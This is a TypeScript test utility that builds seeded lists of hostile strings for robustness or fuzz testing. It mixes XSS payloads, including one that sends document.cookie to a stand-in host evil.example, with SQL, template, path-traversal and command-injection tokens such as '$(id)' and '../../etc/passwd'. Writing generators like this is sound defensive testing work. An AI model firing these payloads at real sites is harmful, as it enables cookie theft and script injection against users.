/** Texts that break what is careless with text, made from a seed. */
import { seededRandom } from './seeded-random.js';

const TAGS = [
  'img',
  'svg',
  'body',
  'input',
  'video',
  'audio',
  'iframe',
  'object',
  'details',
  'marquee',
  'math',
  'x-y',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
];
const CODE = [
  'alert(1)',
  'owned=1',
  'parent.owned=1',
  'top[`al`+`ert`](1)',
  'import(`data:text/javascript,owned=1`)',
  'fetch`//evil.example/${document.cookie}`',
  'Function`owned=1```',
  'setTimeout`owned\\x3d1`',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  'blob:',
];
const SPECIAL = [
  '\u0000',
  '\u0001',
  '\u001B[31m',
  '\r\n',
  '\u2028',
  '\u2029',
  '\uFEFF',
  '\u200B',
  '\u200F',
  '\u202E',
  '\u2066',
  '\uD800',
  '\uDFFF',
  '\uFFFE',
  'ﷺ',
  'İ',
  'ß',
  'ﬃ',
  '𝕏',
  '👩‍👩‍👧‍👦',
  '🏴‍☠️',
  'Ω≈ç√',
  '田中さん',
  'العربية',
  'עברית',
  '𐀀',
  '＜script＞',
  '‮evil',
  '\u0300',
  '٣',
  '⁰',
  '%00',
  '%3Cscript%3E',
  '&lt;script&gt;',
  '&#60;',
  '\\u003cscript\\u003e',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '-1',
  '1e999',
  '0x1',
  "' OR 1=1--",
  '";--',
  '`',
  '${7*7}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '%s%n%p',
  '../../etc/passwd',
  'CON',
  '$(id)',
  '|cat',
  ';ls',
  '=cmd()',
  '@import',
  '/*',
  '*/',
  '//',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  '<?php',
  '?>',
  '<!DOCTYPE',
];

/** Makes lists of texts; the same seed makes the same lists. */
export class HostileTexts {
  readonly #random: () => number;

  constructor(seed: number) {
    this.#random = seededRandom(seed);
  }

  /** Texts of odd characters: control, direction, combining, broken, and such as other languages read as code. */
  naughty(count: number): string[] {
    return this.#distinct(count, () => {
      const parts = Array.from({ length: 1 + this.#below(4) }, () => this.#oddity());
      return parts.join(this.#pick(['', ' ', 'a', '\t']));
    });
  }

  /** Texts that run a script wherever they are taken for markup, an address or a piece of one. */
  scripts(count: number): string[] {
    return this.#distinct(count, () => {
      const line = this.#pick([
        () => this.#element(),
        () => `<script>${this.#pick(CODE)}</script>`,
        () => `<script src=//evil.example/${this.#below(1000)}.js></script>`,
        () => `${this.#pick(SCHEMES)}${this.#pick(CODE)}`,
        () => `<a href="${this.#pick(SCHEMES)}${this.#pick(CODE)}">x${this.#below(100)}</a>`,
        () => `<svg><animate ${this.#pick(HANDLERS)}=${this.#pick(CODE)} attributeName=x dur=1s>`,
        () => `<style>@import'//evil.example/${this.#below(1000)}.css';*{color:red}</style>`,
        () => `<template shadowrootmode=open>${this.#element()}</template>`,
        () => `<math><mtext></form><form><mglyph><style></math>${this.#element()}`,
        () => `<iframe srcdoc="${this.#element().replaceAll('"', '&quot;')}">`,
        () => `\${${this.#pick(CODE)}}`,
      ])();
      // Breaks out of whatever a careless template has put around it.
      return (
        this.#pick(['', '">', "'>", '-->', '</title>', '</textarea>', '`-', '\u0000<', '" autofocus x="']) +
        line
      );
    });
  }

  #element(): string {
    const [open, close] = this.#pick([
      ['<', '>'],
      ['<', '/>'],
      ['<', ''],
      ['<\u0000', '>'],
    ] as const);
    const gap = this.#pick([' ', '/', '\t', '\n', '\u000C']);
    return `${open}${this.#cased(this.#pick(TAGS))}${gap}src=x${gap}tabindex=1 autofocus ${this.#cased(this.#pick(HANDLERS))}=${this.#pick(CODE)}${close}`;
  }

  #oddity(): string {
    const kind = this.#random();
    if (kind < 0.6) return this.#pick(SPECIAL);
    if (kind < 0.75) return this.#zalgo();
    if (kind < 0.85) return this.#pick(SPECIAL).repeat(1 + this.#below(40));
    return String.fromCodePoint(...Array.from({ length: 1 + this.#below(8) }, () => this.#below(0x10_ffff)));
  }

  #zalgo(): string {
    const marks = (): string =>
      String.fromCodePoint(...Array.from({ length: 1 + this.#below(30) }, () => 0x300 + this.#below(0x70)));
    return ['A', 'l', 'i', 'c', 'e'].map((letter) => letter + marks()).join('');
  }

  #cased(word: string): string {
    return word.replaceAll(/[a-z]/g, (letter) => (this.#random() < 0.5 ? letter : letter.toUpperCase()));
  }

  #distinct(count: number, make: () => string): string[] {
    const texts = new Set<string>();
    while (texts.size < count) texts.add(make());
    return [...texts];
  }

  #pick<T>(list: readonly T[]): T {
    return list[this.#below(list.length)] as T;
  }

  #below(limit: number): number {
    return Math.floor(this.#random() * limit);
  }
}
